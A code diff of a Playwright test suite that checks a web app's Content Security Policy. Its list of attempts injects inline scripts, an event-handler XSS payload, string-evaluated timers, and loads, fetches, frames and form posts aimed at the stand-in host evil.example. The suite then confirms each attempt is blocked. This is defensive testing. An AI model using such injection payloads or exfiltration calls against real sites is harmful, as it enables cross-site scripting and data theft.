@@ -5,35 +5,13 @@ import type { AddressInfo } from 'node:net';
 import type { Page } from '@playwright/test';
 
 import { expect, test } from './fixtures';
-import { settled, withoutJoinPopup } from './helpers/customer';
+import { withoutJoinPopup } from './helpers/customer';
 import { renderAllParts } from './helpers/screenText';
 
 /**
  * Every test of this suite fails at the first policy violation (see fixtures.ts). screens.spec.ts opens
  * every page and all that opens on it, map.spec.ts the map, supportRoom.spec.ts the support room.
  */
-
-async function visit(page: Page, address: string): Promise<void> {
-  await page.goto(address);
-  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
-  await renderAllParts(page);
-}
-
-test.describe('nothing violates the policy', () => {
-  test('when navigating between pages without a reload', async ({ page }) => {
-    await withoutJoinPopup(page);
-    await page.goto('/');
-    const menu = page.getByRole('button', { name: 'Open menu' });
-    if (await menu.isVisible()) await menu.click();
-    await page.getByRole('link', { name: 'LOG IN' }).last().click();
-    await settled(page);
-    await expect(page.getByLabel('Password', { exact: true })).toBeVisible();
-    await page.goBack();
-    await settled(page);
-    // Here the structured data is created in the browser, not read from the document.
-    await expect(page.locator('script[type="application/ld+json"]')).toHaveCount(1);
-  });
-});
 
 const violations = (page: Page): Promise<string[]> =>
   page.evaluate(() => (window as unknown as { violations: string[] }).violations);
@@ -59,16 +37,17 @@ test.describe('on a server that sends no headers, the policy in the documents', 
   });
   test.beforeEach(({ page }) => withoutJoinPopup(page));
 
-  test('is not violated', async ({ page }) => {
-    for (const address of ['/', '/pricing', '/contactus', '/login', '/cart'])
-      await visit(page, `${bareUrl}${address}`);
-  });
-
-  test('blocks inline code, in prerendered and other documents', async ({ page, allowConsole }) => {
+  test('is not violated, and blocks inline code, in prerendered and other documents', async ({
+    page,
+    allowConsole,
+  }) => {
     allowConsole(/./);
-    for (const address of ['/pricing', '/login']) {
+    const heading = page.getByRole('heading', { level: 1 });
+    for (const address of ['/', '/login']) {
       await page.goto(`${bareUrl}${address}`);
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      await expect(heading).toHaveCount(1);
+      await renderAllParts(page);
+      expect(await violations(page)).toEqual([]);
       await page.evaluate(() => {
         const style = document.createElement('style');
         style.append('body { display: none }');
@@ -79,124 +58,60 @@ test.describe('on a server that sends no headers, the policy in the documents', 
         document.body.append(link);
         link.click();
       });
-      const blocked = async () => (await violations(page)).map((line) => line.split(' ')[0]);
-      await expect
-        .poll(blocked)
-        .toEqual(expect.arrayContaining(['style-src-elem', 'style-src-attr', 'script-src-elem']));
+      for (const directive of ['style-src-elem', 'style-src-attr', 'script-src-elem'])
+        await expect.poll(async () => (await violations(page)).join()).toContain(directive);
       expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      await expect(heading).toBeVisible();
     }
   });
 });
 
-test.describe('the policy blocks', () => {
-  const attempts: Record<string, { how: () => void; directive: string }> = {
-    'an inline script': {
-      how: () => {
-        const script = document.createElement('script');
-        script.append('window.hacked = true');
-        document.head.append(script);
-      },
-      directive: 'require-trusted-types-for',
-    },
-    'a script of another host': {
-      how: () => {
-        const script = document.createElement('script');
-        script.setAttribute('src', 'https://evil.example/x.js');
-        document.head.append(script);
-      },
-      directive: 'require-trusted-types-for',
-    },
-    'an event handler in markup': {
-      how: () => {
-        document.body.setAttribute('onclick', 'window.hacked = true');
-      },
-      directive: 'require-trusted-types-for',
-    },
-    'markup from a text': {
-      how: () => {
-        document.body.innerHTML += '<img src=x onerror="window.hacked = true">';
-      },
-      directive: 'require-trusted-types-for',
-    },
-    'a text that is run': {
-      how: () => {
-        Reflect.apply(setTimeout, window, ['window.hacked = true']);
-      },
-      directive: 'require-trusted-types-for',
-    },
-    'a style element': {
-      how: () => {
-        const style = document.createElement('style');
-        style.append('body { display: none }');
-        document.head.append(style);
-      },
-      directive: 'style-src-elem',
-    },
-    'a style attribute': {
-      how: () => {
-        document.body.setAttribute('style', 'display: none');
-      },
-      directive: 'style-src-attr',
-    },
-    'a picture of another host': {
-      how: () => {
-        new Image().src = 'https://evil.example/beacon.png';
-      },
-      directive: 'img-src',
-    },
-    'a call to another host': {
-      how: () => {
-        void fetch('https://evil.example/').catch(() => undefined);
-      },
-      directive: 'connect-src',
-    },
-    'a frame of another host': {
-      how: () => {
-        const frame = document.createElement('iframe');
-        frame.src = 'https://evil.example/';
-        document.body.append(frame);
-      },
-      directive: 'frame-src',
-    },
-    'a plug-in': {
-      how: () => {
-        const plugin = document.createElement('object');
-        plugin.data = 'https://evil.example/x.swf';
-        document.body.append(plugin);
-      },
-      directive: 'require-trusted-types-for',
-    },
-    'another base address': {
-      how: () => {
-        const base = document.createElement('base');
-        base.href = 'https://evil.example/';
-        document.head.append(base);
-      },
-      directive: 'base-uri',
-    },
-    'a form that leaves the site': {
-      how: () => {
-        const form = document.createElement('form');
-        form.action = 'https://evil.example/';
-        document.body.append(form);
-        form.submit();
-      },
-      directive: 'form-action',
-    },
-  };
+/** Runs in the page: adds an element. */
+function put(tag: string, properties: object, ...children: string[]): HTMLElement {
+  const element = Object.assign(document.createElement(tag), properties);
+  element.append(...children);
+  document.body.append(element);
+  return element;
+}
 
-  test(Object.keys(attempts).join(', '), async ({ page, allowConsole }) => {
-    allowConsole(/./);
-    await withoutJoinPopup(page);
-    for (const [what, { how, directive }] of Object.entries(attempts)) {
-      await page.goto('/terms-condition');
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-      await page.evaluate(how).catch(() => undefined);
-      await expect
-        .poll(async () => (await violations(page)).map((line) => line.split(' ')[0]), what)
-        .toContain(directive);
-      expect(await page.evaluate(() => 'hacked' in window), what).toBe(false);
-    }
-  });
+const SCRIPTS = 'require-trusted-types-for';
+const EVIL = 'https://evil.example/';
+
+/** Attempts on a page, with the directive that blocks each. */
+const ATTEMPTS: [what: string, directive: string, how: string][] = [
+  ['an inline script', SCRIPTS, `put('script', {}, 'window.hacked = true')`],
+  ['a script of another host', SCRIPTS, `put('script', { src: '${EVIL}x.js' })`],
+  ['an event handler', SCRIPTS, `document.body.setAttribute('onclick', 'window.hacked = true')`],
+  ['markup', SCRIPTS, `document.body.innerHTML += '<img src=x onerror="window.hacked = true">'`],
+  ['a text that is run', SCRIPTS, `setTimeout('window.hacked = true')`],
+  ['a plug-in', SCRIPTS, `put('object', { data: '${EVIL}x.swf' })`],
+  ['a style element', 'style-src-elem', `put('style', {}, 'body { display: none }')`],
+  ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'display: none')`],
+  ['a picture of another host', 'img-src', `put('img', { src: '${EVIL}beacon.png' })`],
+  ['a call to another host', 'connect-src', `fetch('${EVIL}').catch(() => undefined)`],
+  ['a frame of another host', 'frame-src', `put('iframe', { src: '${EVIL}' })`],
+  ['another base address', 'base-uri', `put('base', { href: '${EVIL}' })`],
+  ['a form that leaves the site', 'form-action', `put('form', { action: '${EVIL}' }).submit()`],
+];
+
+test(`the policy blocks ${ATTEMPTS.map(([what]) => what).join(', ')}`, async ({
+  page,
+  allowConsole,
+}) => {
+  allowConsole(/./);
+  await withoutJoinPopup(page);
+  await page.goto('/terms-condition');
+  await page.evaluate(`globalThis.put = ${put.toString()}`);
+  for (const [what, directive, how] of ATTEMPTS) {
+    const before = (await violations(page)).length;
+    await page.evaluate(how).catch(() => undefined);
+    await expect
+      .poll(async () => (await violations(page)).slice(before).join(), what)
+      .toMatch(new RegExp(`(^|,)${directive} `));
+    const harm = await page.evaluate(() => ({
+      isHacked: 'hacked' in window,
+      isHidden: document.querySelector('h1')?.checkVisibility() !== true,
+    }));
+    expect(harm, what).toEqual({ isHacked: false, isHidden: false });
+  }
 });
